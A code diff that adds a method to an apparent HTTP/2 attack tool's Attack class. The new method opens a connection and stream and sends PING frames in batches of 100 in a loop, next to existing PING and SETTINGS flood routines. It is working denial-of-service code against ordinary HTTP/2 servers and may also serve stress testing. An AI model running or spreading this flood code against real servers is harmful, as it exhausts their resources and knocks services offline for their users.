@@ -211,6 +211,16 @@ class Attack:
     def pings(self):
         self.repeat(lambda n: frame(http2.PING, 0, 0, struct.pack(">Q", n)))
 
+    def pings_of_a_call(self):
+        """On a connection with a call, which may send more."""
+        while self.going():
+            c, n = self.connect(), 0
+            c.open(1)
+            while self.going() and c.send(
+                b"".join(frame(http2.PING, 0, 0, struct.pack(">Q", n + i)) for i in range(100))
+            ):
+                n += 100
+
     def settings(self):
         self.repeat(lambda n: frame(http2.SETTINGS, 0, 0, struct.pack(">HI", 3, n % 100 + 1)))
 
